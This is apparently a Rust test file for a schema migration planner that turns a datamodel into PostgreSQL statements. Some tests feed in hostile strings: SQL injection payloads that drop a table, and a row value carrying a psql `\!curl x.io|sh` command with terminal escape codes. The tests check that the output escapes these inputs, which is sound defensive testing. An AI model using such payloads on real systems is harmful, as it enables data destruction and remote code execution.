//! The layout and its steps without a database: what a small datamodel becomes, statement by
//! statement.

use super::*;
use crate::datamodel::{OrderedList, parse};

fn wanted(text: &str) -> DatabaseLayout {
    layout(&parse("datamodel.prisma", text).unwrap(), "s")
}

fn steps(text: &str, found: &DatabaseLayout) -> Vec<MigrationStep> {
    let model = parse("datamodel.prisma", text).unwrap();
    let wanted = layout(&model, "s");
    let target = MigrationTarget {
        previous: Some(found),
        ..MigrationTarget::new(&wanted)
    };
    plan(&model, &target, found, &[]).unwrap().steps
}

fn statements(text: &str, found: &DatabaseLayout) -> Vec<String> {
    steps(text, found)
        .into_iter()
        .map(|step| step.sql.replace('\n', " "))
        .collect()
}

#[test]
fn a_datamodel_becomes_prismas_tables_and_our_indexes() {
    let text = r#"enum Stage { OPEN }
           type Order { id: ID! @id stage: Stage! price: Float number: Int @unique to: Box! tags: [String!]!
             made: DateTime @createdAt seen: [Box!]! @relation(name: "Seen") }
           type Box { uid: UUID! @id json: Json }"#;
    let found = DatabaseLayout {
        exists: false,
        ..DatabaseLayout::empty("s")
    };
    assert_eq!(
        statements(text, &found),
        [
            r#"CREATE SCHEMA IF NOT EXISTS "s""#,
            r#"CREATE TABLE "s"."Order" (   "id" character varying(25) NOT NULL,   "stage" text NOT NULL,   "price" numeric(65,30),   "number" integer,   "to" uuid,   "made" timestamp(3) without time zone,   PRIMARY KEY ("id") )"#,
            r#"CREATE TABLE "s"."Box" (   "uid" uuid NOT NULL,   "json" text,   PRIMARY KEY ("uid") )"#,
            r#"CREATE TABLE "s"."Order_tags" (   "nodeId" character varying(25) NOT NULL,   "position" integer NOT NULL,   "value" text NOT NULL,   PRIMARY KEY ("nodeId", "position") )"#,
            r#"CREATE TABLE "s"."_Seen" (   "A" uuid NOT NULL,   "B" character varying(25) NOT NULL )"#,
            r#"ALTER TABLE "s"."Order" ADD CONSTRAINT "Order_to_fkey" FOREIGN KEY ("to") REFERENCES "s"."Box" ("uid") ON DELETE SET NULL"#,
            r#"ALTER TABLE "s"."Order_tags" ADD CONSTRAINT "Order_tags_nodeId_fkey" FOREIGN KEY ("nodeId") REFERENCES "s"."Order" ("id") ON DELETE CASCADE"#,
            r#"ALTER TABLE "s"."_Seen" ADD CONSTRAINT "_Seen_A_fkey" FOREIGN KEY ("A") REFERENCES "s"."Box" ("uid") ON DELETE CASCADE"#,
            r#"ALTER TABLE "s"."_Seen" ADD CONSTRAINT "_Seen_B_fkey" FOREIGN KEY ("B") REFERENCES "s"."Order" ("id") ON DELETE CASCADE"#,
            r#"CREATE UNIQUE INDEX "s.Order.number._UNIQUE" ON "s"."Order" ("number")"#,
            r#"CREATE INDEX "gom_Order_to_made" ON "s"."Order" ("to", "made" DESC, "id")"#,
            r#"CREATE UNIQUE INDEX "_Seen_AB_unique" ON "s"."_Seen" ("A", "B")"#,
            r#"CREATE INDEX "_Seen_B" ON "s"."_Seen" ("B")"#,
        ]
    );
}

#[test]
fn every_link_of_the_shop_is_indexed_once() {
    let mut shop = parse(
        "datamodel.prisma",
        include_str!("../../../config/datamodel.prisma"),
    )
    .unwrap();
    let listed = shop.model_named("Promotion").unwrap();
    let field = |name| shop.model(listed).field_named(name).unwrap();
    shop.lists = vec![OrderedList {
        model: listed,
        link: field("assignedTo"),
        order: field("end"),
    }];
    let shop = layout(&shop, "s");
    assert_eq!(differences(&MigrationTarget::new(&shop), &shop), []);
    for table in shop
        .tables
        .iter()
        .filter(|t| t.purpose == TablePurpose::Model)
    {
        for link in table.foreign_keys.iter().map(|key| key.columns[0].as_str()) {
            let serving: Vec<_> = table
                .indexes
                .iter()
                .filter(|i| i.column_names().next() == Some(link))
                .collect();
            assert!(!serving.is_empty(), "{}.{link}", table.name);
            assert!(
                serving.iter().all(|i| i.columns.len() > 1),
                "no index is the beginning of another"
            );
        }
    }
    let listed = shop.table("Promotion").unwrap();
    assert!(
        listed
            .indexes
            .iter()
            .any(|i| i.column_names().eq(["assignedTo", "end", "uid"]))
    );
}

#[test]
fn names_in_the_datamodel_cannot_leave_their_quotes() {
    let found = DatabaseLayout::empty("s");
    let text = r#"type A @db(name: "a\"; DROP TABLE x; --") { id: ID! @id
                    s: String! @db(name: "s\"") @default(value: "'; DROP TABLE x; --\\'") }"#;
    let new = statements(text, &found);
    assert!(
        new[0].starts_with(r#"CREATE TABLE "s"."a""; DROP TABLE x; --" ("#),
        "{}",
        new[0]
    );
    let without = wanted(r#"type A @db(name: "a\"; DROP TABLE x; --") { id: ID! @id }"#);
    let added = statements(text, &without);
    assert!(
        added[0].contains(r#"DEFAULT E'''; DROP TABLE x; --\\''';"#),
        "{}",
        added[0]
    );
}

#[test]
fn times_with_a_zone_become_times_in_utc_whatever_the_sessions_zone_is() {
    let text = "type A { id: ID! @id at: DateTime }";
    let mut found = wanted(text);
    let at = found
        .tables
        .iter_mut()
        .flat_map(|table| &mut table.columns)
        .find(|column| column.name == "at");
    at.unwrap().sql_type = "timestamp with time zone".to_owned();
    assert_eq!(
        statements(text, &found),
        [
            r#"ALTER TABLE "s"."A" ALTER COLUMN "at" TYPE timestamp(3) without time zone USING ("at" AT TIME ZONE 'UTC')::timestamp(3) without time zone"#
        ]
    );
}

#[test]
fn the_sql_for_review_names_what_it_loses() {
    let before = wanted("type A { id: ID! @id a: Int }");
    let text = sql_text(&steps("type A { id: ID! @id }", &before));
    assert_eq!(
        text,
        "BEGIN;\n\n-- drop the column `A.a`\n-- LOSES DATA: the column's values are lost\n\
         ALTER TABLE \"s\".\"A\" DROP COLUMN \"a\";\n\nCOMMIT;\n"
    );
}

#[test]
fn what_is_in_a_row_cannot_leave_its_comment() {
    let before = wanted("type A { id: ID! @id a: Int }");
    let mut steps = steps("type A { id: ID! @id }", &before);
    let evil = "\n\\!curl x.io|sh #\u{1b}[2J\u{85}\r";
    let rows = FoundRows {
        count: 1,
        example: Some(evil.into()),
        value: Some(evil.into()),
    };
    let described = rows.describe("row", "rows", true);
    assert!(!described.contains(char::is_control), "{described:?}");
    steps[0].data_loss.as_mut().unwrap().rows = rows;
    let text = sql_text(&steps);
    assert!(
        text.contains("1 row, e.g. `\u{fffd}\\!curl x.io|sh #\u{fffd}[2J"),
        "{text}"
    );
    assert!(!text.contains("\n\\!"), "{text}");
    assert!(!text.contains('\u{1b}'), "{text}");
}
